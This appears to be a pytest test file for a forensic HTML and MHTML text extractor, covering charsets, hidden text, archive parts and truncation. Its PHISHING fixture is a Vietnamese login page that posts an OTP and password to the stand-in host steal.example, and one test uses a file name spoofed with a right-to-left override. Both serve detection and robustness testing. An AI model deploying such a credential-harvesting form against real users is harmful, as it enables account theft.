"""Pages and archives of pages."""

from pathlib import Path

import pytest
from tests.extractors.charsets.written import TEXT, WRITERS
from tests.extractors.letters.laws import lawful, problems, said, survives, values
from tests.extractors.support.specimens import PAGE

from truyvet.extractors import web
from truyvet.extractors.markup import pages
from truyvet.extractors.settings import Settings
from truyvet.testing.bench import examine, resolve

PHISHING = (
    '<!doctype html><html lang="vi"><title>Đăng nhập</title><p>Xin chào'
    '<div hidden>ẩn</div><script>go()</script><form action="https://steal.example/p.php" '
    'method="post"><input name="otp"><input type="password" name="pw"></form></html>'
).encode()
ARCHIVE = (
    b"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://x.example/\r\n"
    b"Subject: x\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: multipart/related; type="text/html"; boundary="B"\r\n\r\n'
    b"--B\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n"
    b"Content-Location: https://x.example/a\r\n\r\n<html>=3D</html>\r\n"
    b"--B\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n"
    b"Content-Location: https://x.example/b.png\r\n\r\niVBORw==\r\n--B--\r\n"
)


def text_at(content: bytes, step: str) -> str:
    found = examine(web, content, media_type="text/html")
    return "".join(line.text for line in found.texts if line.locator == (step,))


def test_shown_hidden_and_script_are_three_texts() -> None:
    found = lawful(web, PHISHING, name="a.html")
    assert [(line.locator[0], line.text) for line in found.texts] == [
        ("html:text", "Đăng nhập\nXin chào"),
        ("html:hidden", "ẩn"),
        ("html:script", "go()"),
    ]


def test_a_page_says_of_itself() -> None:
    found = lawful(web, PAGE, name="a.html")
    assert values(found, "page-title") == ["Quán Cà Phê"]
    assert values(found, "page-author") == ["Lan"]


def test_a_form_that_asks_for_a_password_is_told() -> None:
    (form,) = lawful(web, PHISHING, name="a.html").of("page-form")
    assert form.raw == "https://steal.example/p.php"
    assert form.facts == {
        "method": "post", "fields": "text:otp password:pw", "password": "yes",
    }  # fmt: skip


@pytest.mark.parametrize("charset", ["utf-8", "utf-8-sig", "utf-16"])
def test_a_page_in_unicode_is_read_whatever_it_declares(charset: str) -> None:
    page = f"<html><meta charset=iso-8859-1><p>{TEXT}</html>".encode(charset)
    assert "Nguyễn Văn Đức" in text_at(page, "html:text")


@pytest.mark.parametrize("charset", ["utf-16-le", "utf-16-be"])
def test_a_page_in_utf_16_without_a_mark_is_read(charset: str) -> None:
    page = f"<html><title>Thông báo</title><p>{TEXT}<form action='/gửi'>" + "你好世界" * 400
    found = lawful(web, page.encode(charset), name="item", media_type="text/html")
    assert values(found, "page-title") == ["Thông báo"]
    assert values(found, "page-form") == ["/gửi"]
    assert "Nguyễn Văn Đức" in text_at(page.encode(charset), "html:text")
    assert "<" not in text_at(page.encode(charset), "html:text")


@pytest.mark.parametrize("charset", sorted(WRITERS))
def test_an_old_vietnamese_page_is_read(charset: str) -> None:
    page = b"<html><meta charset=x-user-defined><p>" + WRITERS[charset](TEXT) + b"</html>"
    assert "chuyển khoản" in text_at(page, "html:text")


@pytest.mark.parametrize(
    ("declared", "text"),
    [(b"gb2312", "你好世界"), (b"windows-1251", "Привет"), (b"Shift_JIS", "こんにちは")],
)
def test_a_declared_encoding_is_believed(declared: bytes, text: str) -> None:
    head = b'<html><meta http-equiv=Content-Type content="text/html; charset=' + declared + b'">'
    content = head + b"<p>" + text.encode(declared.decode()) + b"</html>"
    assert text_at(content, "html:text") == text


@pytest.mark.parametrize("declared", [b"klingon", b"unicode_escape", b"utf-8", b""])
def test_a_wrong_declaration_stops_nothing(declared: bytes) -> None:
    content = b"<html><meta charset='" + declared + b"'><p>caf\xe9</html>"
    assert text_at(content, "html:text") == "café"


def test_the_parts_of_an_archive_are_children_named_by_their_address() -> None:
    found = lawful(web, ARCHIVE, name="a.mht")
    assert [(child.found.locator, child.name, child.content) for child in found.children] == [
        ("mhtml:part/1", "https://x.example/a", b"<html>=</html>"),
        ("mhtml:part/2", "https://x.example/b.png", b"\x89PNG"),
    ]
    assert found.texts == []


def test_a_cut_archive_is_named() -> None:
    found = lawful(web, ARCHIVE[:-8], name="a.mht")
    assert problems(found) == [("corrupt", "")]
    assert len(found.children) == 2


def test_the_words_of_a_drawing_are_text(samples: Path) -> None:
    found = lawful(web, b"<svg><text>B\xe1\xba\xa3n</text><text>hai</text></svg>", name="a.svg")
    assert said(found) == "Bản\nhai"
    assert lawful(web, samples / "metadata/XMP.svg", name="XMP.svg").outcome.status in (
        "ok", "empty",
    )  # fmt: skip


def test_a_picture_called_a_page_is_left_alone() -> None:
    found = examine(web, b"\x89PNG\r\n\x1a\n" + bytes(50), name="a.html")
    assert (found.texts, found.outcome.status) == ([], "empty")


def test_a_page_longer_than_is_read_is_partial() -> None:
    content = b"<html><p>x" + b" " * pages.MAX_BYTES + b"<p>end"
    found = examine(web, content, media_type="text/html")
    assert found.outcome.status == "partial"
    assert said(found) == "x"


def test_a_long_title_is_cut_between_characters() -> None:
    content = f"<title>{'ệ' * 3000}</title><p>x".encode()
    (title,) = lawful(web, content, media_type="text/html").of("page-title")
    assert len(title.raw.encode()) <= 4096


def test_nothing_is_empty() -> None:
    assert examine(web, b"", media_type="text/html").outcome.status == "empty"


@pytest.mark.parametrize(
    ("content", "media"),
    [(PHISHING, "text/html"), (PAGE, "text/html"), (ARCHIVE, "multipart/related")],
)
def test_damage_stops_nothing(content: bytes, media: str) -> None:
    survives(web, content, name="\u202ea\udcff.html", media_type=media)


@pytest.mark.parametrize("step", ["html:", "html:form/7", "html:base", "mhtml:part/9", "mhtml:"])
def test_a_wrong_step_leads_nowhere(step: str) -> None:
    with pytest.raises(LookupError):
        resolve(web, PAGE, (step,), media_type="text/html")


def test_the_version_of_the_parser_is_part_of_the_configuration() -> None:
    assert "libxml2" in web.configuration(Settings())["lxml"]
